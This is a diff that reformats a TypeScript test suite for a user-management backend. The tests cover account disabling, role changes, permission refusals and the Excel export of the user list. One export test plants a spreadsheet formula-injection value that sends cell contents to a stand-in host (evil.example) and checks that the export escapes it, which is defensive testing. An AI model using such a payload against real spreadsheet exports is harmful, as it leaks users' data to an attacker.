@@ -4,7 +4,10 @@ import excel from 'exceljs';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { REFUSED, startBackend, type Backend, type Who } from '../../../tests/backend';
 import { catalogue } from '../../../src/services/catalogue';
-import type { AuthExportUserListParams, AuthUpdateUserRolesParams } from '../../../src/services/catalogue/generated/types';
+import type {
+  AuthExportUserListParams,
+  AuthUpdateUserRolesParams,
+} from '../../../src/services/catalogue/generated/types';
 import { account, department } from '../../db/schema';
 import { roleIdOf } from '../../db/seed/roles';
 import { workFor } from '../../kernel/work/test-support/pool';
@@ -26,17 +29,22 @@ beforeAll(async () => {
 afterAll(() => backend.stop());
 afterEach(() => staff.dissolve());
 
-const update = (params: AuthUpdateUserRolesParams, as: Who | Record<string, string> = 'admin') => backend.call('auth.updateUserRoles', params, as);
+const update = (params: AuthUpdateUserRolesParams, as: Who | Record<string, string> = 'admin') =>
+  backend.call('auth.updateUserRoles', params, as);
 
 /** Requests that have all been let in before the first of them may change anything. */
 async function atOnce<T>(ask: () => Promise<T>[]): Promise<T[]> {
-  return backend.db.transaction(async (tx) => {
-    await lockAdmins(tx);
-    const asked = ask();
-    const waiting = sql`select count(*)::int as waiting from pg_locks where locktype = 'advisory' and not granted and database = (select oid from pg_database where datname = current_database())`;
-    await expect.poll(async () => (await backend.db.execute<{ waiting: number }>(waiting)).rows[0]!.waiting).toBe(asked.length);
-    return asked;
-  }).then((asked) => Promise.all(asked));
+  return backend.db
+    .transaction(async (tx) => {
+      await lockAdmins(tx);
+      const asked = ask();
+      const waiting = sql`select count(*)::int as waiting from pg_locks where locktype = 'advisory' and not granted and database = (select oid from pg_database where datname = current_database())`;
+      await expect
+        .poll(async () => (await backend.db.execute<{ waiting: number }>(waiting)).rows[0]!.waiting)
+        .toBe(asked.length);
+      return asked;
+    })
+    .then((asked) => Promise.all(asked));
 }
 
 describe('enabling and disabling', () => {
@@ -51,21 +59,43 @@ describe('enabling and disabling', () => {
   });
   it('goes with roles in one request, all or nothing', async () => {
     const id = await staff.hire('one', '内容运营');
-    expect(await update({ userIds: [id], roleIds: [999], status: 'disabled' })).toMatchObject({ code: REFUSED.invalid });
+    expect(await update({ userIds: [id], roleIds: [999], status: 'disabled' })).toMatchObject({
+      code: REFUSED.invalid,
+    });
     expect(await staff.read(id)).toMatchObject({ status: 'enabled' });
-    expect(await update({ userIds: [id], roleIds: [roleIdOf('只读访客')], status: 'disabled' })).toMatchObject({ code: 0 });
+    expect(await update({ userIds: [id], roleIds: [roleIdOf('只读访客')], status: 'disabled' })).toMatchObject({
+      code: 0,
+    });
     expect(await staff.read(id)).toMatchObject({ status: 'disabled', roleIds: [roleIdOf('只读访客')] });
   });
   it('needs something to change', async () => {
-    expect(await update({ userIds: [backend.ids.viewer] })).toMatchObject({ code: REFUSED.invalid, errors: [{ field: 'roleIds', message: MESSAGES.nothingToChange }] });
-    expect(await update({ userIds: [backend.ids.viewer], status: 'gone' as never })).toMatchObject({ code: REFUSED.invalid, errors: [{ field: 'status' }] });
-    expect(await update({ userIds: [], status: 'disabled' })).toMatchObject({ code: REFUSED.invalid, errors: [{ field: 'userIds' }] });
+    expect(await update({ userIds: [backend.ids.viewer] })).toMatchObject({
+      code: REFUSED.invalid,
+      errors: [{ field: 'roleIds', message: MESSAGES.nothingToChange }],
+    });
+    expect(await update({ userIds: [backend.ids.viewer], status: 'gone' as never })).toMatchObject({
+      code: REFUSED.invalid,
+      errors: [{ field: 'status' }],
+    });
+    expect(await update({ userIds: [], status: 'disabled' })).toMatchObject({
+      code: REFUSED.invalid,
+      errors: [{ field: 'userIds' }],
+    });
   });
   it('spares oneself, administrators from leaders, and other departments', async () => {
     const disable = (userId: number, as: Who) => update({ userIds: [userId], status: 'disabled' }, as);
-    expect(await disable(backend.ids.leader, 'leader')).toMatchObject({ code: REFUSED.invalid, msg: MESSAGES.notDisableOneself });
-    expect(await disable(backend.ids.admin, 'admin')).toMatchObject({ code: REFUSED.invalid, msg: MESSAGES.notDisableOneself });
-    expect(await disable(backend.ids.admin, 'leader')).toMatchObject({ code: REFUSED.forbidden, msg: MESSAGES.adminOnlyByAdmin });
+    expect(await disable(backend.ids.leader, 'leader')).toMatchObject({
+      code: REFUSED.invalid,
+      msg: MESSAGES.notDisableOneself,
+    });
+    expect(await disable(backend.ids.admin, 'admin')).toMatchObject({
+      code: REFUSED.invalid,
+      msg: MESSAGES.notDisableOneself,
+    });
+    expect(await disable(backend.ids.admin, 'leader')).toMatchObject({
+      code: REFUSED.forbidden,
+      msg: MESSAGES.adminOnlyByAdmin,
+    });
     expect(await disable(backend.ids.stranger, 'leader')).toMatchObject({ code: REFUSED.notFound });
     expect(await disable(backend.ids.homeless, 'leader')).toMatchObject({ code: REFUSED.notFound });
     expect(await disable(backend.ids.viewer, 'operator')).toMatchObject({ code: REFUSED.forbidden });
@@ -74,7 +104,10 @@ describe('enabling and disabling', () => {
   it('leaves an administrator when two disable each other at the same time', async () => {
     const id = await staff.hire('second', '管理员', { adminLevel: 1 });
     const second = await backend.logIn(id);
-    const answers = await atOnce(() => [update({ userIds: [backend.ids.admin], status: 'disabled' }, second), update({ userIds: [id], status: 'disabled' }, 'admin')]);
+    const answers = await atOnce(() => [
+      update({ userIds: [backend.ids.admin], status: 'disabled' }, second),
+      update({ userIds: [id], status: 'disabled' }, 'admin'),
+    ]);
     expect(answers.map(({ code }) => code).toSorted((a, b) => a - b)).toEqual([0, REFUSED.invalid]);
     expect(answers.map(({ msg }) => msg)).toContain(MESSAGES.lastAdmin);
     await backend.db.update(account).set({ status: 'enabled' });
@@ -101,7 +134,10 @@ describe('the export', () => {
   async function download(params: AuthExportUserListParams, as: Who) {
     const headers = await backend.logIn(backend.ids[as]);
     const answer = await backend.app.inject({ method: 'POST', url: path, payload: params, headers });
-    return { answer, sheet: String(answer.headers['content-type']).includes('spreadsheetml') ? await sheetOf(answer.rawPayload) : null };
+    return {
+      answer,
+      sheet: String(answer.headers['content-type']).includes('spreadsheetml') ? await sheetOf(answer.rawPayload) : null,
+    };
   }
   async function sheetOf(bytes: Buffer) {
     const book = new excel.Workbook();
@@ -110,19 +146,57 @@ describe('the export', () => {
   }
   async function rowsOf(params: AuthExportUserListParams, as: Who = 'admin') {
     const { sheet } = await download(params, as);
-    const [titles, ...rows] = Array.from({ length: sheet!.rowCount }, (_, index) => (sheet!.getRow(index + 1).values as excel.CellValue[]).slice(1));
+    const [titles, ...rows] = Array.from({ length: sheet!.rowCount }, (_, index) =>
+      (sheet!.getRow(index + 1).values as excel.CellValue[]).slice(1),
+    );
     return { titles, rows };
   }
-  const namesOf = async (params: AuthExportUserListParams, as?: Who) => (await rowsOf(params, as)).rows.map((row) => row[1]);
+  const namesOf = async (params: AuthExportUserListParams, as?: Who) =>
+    (await rowsOf(params, as)).rows.map((row) => row[1]);
 
   it('is 用户列表.xlsx with the headings and words of the contract, numbers masked', async () => {
-    const id = await staff.hire('export.one', '内容运营', { email: 'n@atelier.example', status: 'disabled', lastLoginTime: new Date('2026-06-02T00:00:00Z'), updateTime: new Date('2026-06-03T00:00:00Z') });
+    const id = await staff.hire('export.one', '内容运营', {
+      email: 'n@atelier.example',
+      status: 'disabled',
+      lastLoginTime: new Date('2026-06-02T00:00:00Z'),
+      updateTime: new Date('2026-06-03T00:00:00Z'),
+    });
     const { answer } = await download({ keyword: 'export.' }, 'leader');
-    expect(answer.headers['content-disposition']).toBe(`attachment; filename*=UTF-8''${encodeURIComponent('用户列表.xlsx')}`);
+    expect(answer.headers['content-disposition']).toBe(
+      `attachment; filename*=UTF-8''${encodeURIComponent('用户列表.xlsx')}`,
+    );
     const { titles, rows } = await rowsOf({ keyword: 'export.' }, 'leader');
-    expect(titles).toEqual(['用户编号', '登录名', '姓名', '手机号', '邮箱', '部门', '角色', '状态', '管理级别', '最近登录', '创建时间', '更新时间']);
+    expect(titles).toEqual([
+      '用户编号',
+      '登录名',
+      '姓名',
+      '手机号',
+      '邮箱',
+      '部门',
+      '角色',
+      '状态',
+      '管理级别',
+      '最近登录',
+      '创建时间',
+      '更新时间',
+    ]);
     const shanghai = (day: string) => new Date(`${day}T08:00:00.000Z`);
-    expect(rows).toEqual([[id, 'export.one', 'export.one', '139****5678', 'n@atelier.example', '内容运营中心', '内容运营', '停用', 0, shanghai('2026-06-02'), shanghai('2026-06-01'), shanghai('2026-06-03')]]);
+    expect(rows).toEqual([
+      [
+        id,
+        'export.one',
+        'export.one',
+        '139****5678',
+        'n@atelier.example',
+        '内容运营中心',
+        '内容运营',
+        '停用',
+        0,
+        shanghai('2026-06-02'),
+        shanghai('2026-06-01'),
+        shanghai('2026-06-03'),
+      ],
+    ]);
   });
   it('has what the filters and the list have, newest first, and nobody of other departments', async () => {
     const list = async (as: Who) => (await backend.ask('auth.queryUserList', {}, as)).list.map((row) => row.loginName);
@@ -139,21 +213,40 @@ describe('the export', () => {
     expect((await namesOf({ userIds: [viewer, stranger] })).toSorted()).toEqual(['stranger', 'viewer']);
   });
   it('computes nothing that people call themselves', async () => {
-    const id = await staff.hire('formula', '内容运营', { userName: '=HYPERLINK("https://evil.example?"&A1,"x")', email: '@SUM(1+1)', mobile: '+8613900005678' });
+    const id = await staff.hire('formula', '内容运营', {
+      userName: '=HYPERLINK("https://evil.example?"&A1,"x")',
+      email: '@SUM(1+1)',
+      mobile: '+8613900005678',
+    });
     const { sheet } = await download({ userIds: [id] }, 'admin');
     const cells = ['C2', 'D2', 'E2'].map((address) => sheet!.getCell(address));
-    expect(cells.every((cell) => cell.type === excel.ValueType.String && cell.formula === undefined && String(cell.value).startsWith("'"))).toBe(true);
+    expect(
+      cells.every(
+        (cell) =>
+          cell.type === excel.ValueType.String && cell.formula === undefined && String(cell.value).startsWith("'"),
+      ),
+    ).toBe(true);
     expect(cells[0]!.value).toBe('\'=HYPERLINK("https://evil.example?"&A1,"x")');
   });
   it('is refused in an envelope', async () => {
-    for (const [as, code] of [['operator', REFUSED.forbidden], ['viewer', REFUSED.forbidden]] as const) expect((await download({}, as)).answer.json()).toMatchObject({ code, data: null });
+    for (const [as, code] of [
+      ['operator', REFUSED.forbidden],
+      ['viewer', REFUSED.forbidden],
+    ] as const)
+      expect((await download({}, as)).answer.json()).toMatchObject({ code, data: null });
     expect((await download({ pageNo: 1 } as never, 'admin')).answer.json()).toMatchObject({ code: REFUSED.invalid });
-    expect((await download({ userIds: [] }, 'admin')).answer.json()).toMatchObject({ code: REFUSED.invalid, errors: [{ field: 'userIds' }] });
+    expect((await download({ userIds: [] }, 'admin')).answer.json()).toMatchObject({
+      code: REFUSED.invalid,
+      errors: [{ field: 'userIds' }],
+    });
   });
 
   describe('of many', () => {
     beforeAll(async () => {
-      await backend.db.insert(department).values([{ departmentId: 77, name: '部门' }, { departmentId: 78, name: '大部门' }]);
+      await backend.db.insert(department).values([
+        { departmentId: 77, name: '部门' },
+        { departmentId: 78, name: '大部门' },
+      ]);
       // Twenty in each moment, so that pages end within one.
       await backend.db.execute(sql`insert into account (login_name, user_name, department_id, create_time)
         select 'many' || n, md5(n::text), case when n <= 4000 then 77 else 78 end, now() - (n / 20) * interval '1 minute' from generate_series(1, 20000) n`);
@@ -172,7 +265,12 @@ describe('the export', () => {
       let asked = 0;
       const select = (...fields: Parameters<typeof backend.db.select>) => ((asked += 1), backend.db.select(...fields));
       const db = Object.assign(Object.create(backend.db) as Backend['db'], { select });
-      const answer = await auth.exportUserList.handle({}, { db, actor: { adminLevel: 1, departmentId: null }, work: workFor(), now: () => new Date() } as Context);
+      const answer = await auth.exportUserList.handle({}, {
+        db,
+        actor: { adminLevel: 1, departmentId: null },
+        work: workFor(),
+        now: () => new Date(),
+      } as Context);
       const { body } = answer as FileAnswer & { body: Readable };
       let bytes = 0;
       for await (const chunk of body as AsyncIterable<Buffer>) bytes += chunk.length;
